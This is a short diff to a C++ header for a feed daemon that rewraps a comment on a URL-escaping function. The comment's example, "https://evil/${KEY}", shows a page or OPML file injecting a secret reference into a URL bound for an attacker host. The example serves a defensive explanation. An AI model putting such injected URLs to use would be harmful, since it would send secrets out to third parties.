@@ -15,7 +15,8 @@ struct NewFeed {
 };
 
 // A URL as the list has to write it: with what fill_in would take for a reference escaped. Without
-// it a page or an OPML file could have the daemon send its secrets away, as in "https://evil/${KEY}".
+// it a page or an OPML file could have the daemon send its secrets away, as in
+// "https://evil/${KEY}".
 [[nodiscard]] std::string list_url(std::string_view url);
 
 }  // namespace feedd
